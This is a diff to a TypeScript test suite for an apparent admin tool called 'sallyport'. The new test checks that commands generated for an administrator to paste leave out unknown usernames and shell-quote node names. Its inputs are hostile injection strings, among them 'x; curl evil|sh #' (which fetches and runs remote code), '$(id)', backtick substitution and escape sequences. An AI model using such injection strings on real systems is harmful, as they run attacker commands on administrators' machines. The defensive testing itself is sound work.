@@ -38,6 +38,7 @@ async function start() {
     },
     files,
     history: { state, file: '/nonexistent/audit.jsonl' },
+    isUser: (name) => name === 'alice',
     audit,
     clock: rig.clock,
   });
@@ -258,6 +259,26 @@ describe('a report of what came through a node', () => {
     outcome: 'ok',
     node: 'dmz1',
     ...more,
+  });
+
+  it('has no word of a stranger in a command that an admin pastes', async () => {
+    const { state, report } = await start();
+    const typed = ['x; curl evil|sh #', '$(id)', "'`id`", 'a\nid', '\u001b[2J', 'nobody', 'alice'];
+    await state.commit(
+      typed.map((user) => ({
+        kind: 'audit' as const,
+        record: record('login.refused', { outcome: 'refused', user }),
+      })),
+    );
+    const { steps } = await report('listed');
+    expect(steps.flatMap(({ commands = [] }) => commands).filter((one) => / passwd /.test(one))).toEqual([
+      'sallyport users passwd alice',
+    ]);
+    expect(steps.flatMap(({ users = [] }) => users)).toEqual(['alice']);
+    const elsewhere = await report('listed', { node: "dmz; id '" });
+    expect(elsewhere.steps.flatMap(({ commands = [] }) => commands)).toContain(
+      String.raw`sallyport nodes incident 'dmz; id '\''' --since 1970-01-01T00:00:00.000Z --undo`,
+    );
   });
 
   it('tells an event that this version does not know', async () => {
